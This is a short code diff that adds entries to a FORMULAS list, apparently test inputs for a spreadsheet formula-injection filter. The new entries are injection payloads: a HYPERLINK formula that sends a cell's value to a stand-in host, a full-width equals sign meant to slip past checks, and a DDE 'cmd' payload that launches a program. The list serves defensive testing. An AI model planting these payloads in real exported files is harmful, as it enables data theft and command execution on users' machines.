@@ -69,6 +69,9 @@ FORMULAS = [
     "Ann\n=1+1",
     "Ann; \u200b =1+1",
     "=1;=2",
+    '= HYPERLINK("http://x.example/?"&A2,"Click")',
+    "\uff1d 1+1",
+    "= cmd|' /C calc'!A0",
 ]
 
 
